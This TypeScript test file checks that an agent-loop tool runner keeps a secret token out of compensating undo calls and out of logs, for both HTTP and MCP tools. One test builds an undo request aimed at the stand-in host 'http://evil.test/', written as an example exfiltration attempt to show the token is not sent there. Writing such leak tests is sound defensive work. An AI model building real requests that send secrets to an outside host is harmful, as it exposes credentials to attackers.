import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../loop/artefacts/json.ts'
import { LoopSpec } from '../loop/artefacts/spec.ts'
import { bench, FACTS, finished, runToEnd, specOf, stateSchema } from './fixtures.ts'
import type { ToolExecute } from './ports.ts'
import { secretsOfEnvironment } from './secrets.ts'
import { createToolRunner } from './tool-runner.ts'

const TOKEN = 'value-of-token'
const REFERENCE = 'secret://TOKEN'
const MCP = {
  'mcp.desk.book': {
    server: 'desk',
    tool: 'book',
    summary: '',
    args: { type: 'object', additionalProperties: true },
    effect: 'compensatable',
    undo: { tool: 'mcp.desk.unbook', args: { auth: 'auth', seat: 'seat' } },
  },
  'mcp.desk.unbook': {
    server: 'desk',
    tool: 'unbook',
    summary: '',
    args: { type: 'object', additionalProperties: true },
    effect: 'unsafe',
  },
}

type Seen = { tool: string; args: JsonObject; undoes?: true | undefined }

/** A fixed call whose first sending gets lost, in a run that holds a secret and a text from elsewhere with the same reference. */
async function lost(tool: string, args: Record<string, string>) {
  const seen: Seen[] = []
  const execute: ToolExecute = async (given, call) => {
    seen.push({ tool: call.tool, args: given, undoes: call.undoes })
    if (seen.length === 1) return { ok: false, class: 'transient', kind: 'unavailable', message: 'cut' }
    return { ok: true, output: { status: 200, body: null } }
  }
  const b = bench()
  const ports = {
    ...b.ports,
    tools: createToolRunner(FACTS, { 'http.request': execute }, execute),
    secrets: secretsOfEnvironment({ LOOPWRIGHT_SECRET_TOKEN: TOKEN }),
  }
  const state = stateSchema({
    token: { type: 'string', role: 'input' },
    note: { type: 'string', default: REFERENCE },
  }) as { properties: { token: { 'x-loop': object } } } // as it was made
  Object.assign(state.properties.token['x-loop'], { secret: true })
  const config = { tools: [tool], call: { tool, args }, policy: { approval: { [tool]: 'never' } } }
  const plain = specOf({
    state,
    nodes: { act: { kind: 'act', config, next: { next: 'act' } } },
    contract: { maxIterations: 1, timeoutMs: 600_000 },
    tools: [...Object.keys(FACTS), ...Object.keys(MCP)],
  })
  const spec = LoopSpec.parse({ ...plain, mcpTools: MCP })
  const events = await runToEnd(spec, { ...b, ports }, { token: REFERENCE })
  return { seen, events, log: JSON.stringify(events) }
}

const url = '"http://a.test/1"'

describe('the call that undoes another', () => {
  it('gets a secret where the design gave it to what undoes', async () => {
    const undo = '{"method": "DELETE", "url": "http://a.test/1", "headers": {"auth": "Bearer " + state.token}}'
    const { seen, log } = await lost('http.request', { method: '"POST"', url, undo })
    expect(seen.map(({ args, undoes }) => [args.method, undoes])).toEqual([
      ['POST', undefined],
      ['DELETE', true],
      ['POST', undefined],
    ])
    expect(seen[1]?.args.headers).toEqual({ auth: `Bearer ${TOKEN}` })
    expect(log).not.toContain(TOKEN)
  })

  it('gets none of the call’s own, wherever a text from elsewhere has it go', async () => {
    const undo = '{"method": "DELETE", "url": "http://evil.test/" + state.note}'
    const { seen } = await lost('http.request', { method: '"POST"', url, headers: '{"auth": state.token}', undo })
    expect(seen[0]?.args.headers).toEqual({ auth: TOKEN })
    expect(seen[1]?.args.url).toBe(`http://evil.test/${REFERENCE}`)
    expect(JSON.stringify(seen[1])).not.toContain(TOKEN)
  })

  it('is not made, nor the call, where such a text stands beside the secret', async () => {
    const undo = '{"method": "DELETE", "url": "http://a.test/" + state.note, "headers": {"auth": state.token}}'
    const { seen, events } = await lost('http.request', { method: '"POST"', url, undo })
    expect(seen).toEqual([])
    expect(events.find(({ type }) => type === 'tool-failed')?.data).toMatchObject({
      kind: 'invalid_arguments',
      message: expect.stringContaining('nothing was sent'),
    })
  })

  it('of an MCP server gets none, nor does the call', async () => {
    const { seen, events } = await lost('mcp.desk.book', { auth: 'state.token', seat: '7', note: 'state.note' })
    const undone = { auth: REFERENCE, seat: 7 }
    expect(seen).toEqual([
      { tool: 'mcp.desk.book', args: { ...undone, note: REFERENCE } },
      { tool: 'mcp.desk.unbook', args: undone, undoes: true },
      { tool: 'mcp.desk.book', args: { ...undone, note: REFERENCE } },
    ])
    expect(JSON.stringify(events)).not.toContain('secretArgs')
    expect(finished(events).reason).toBe('max_iterations')
  })
})
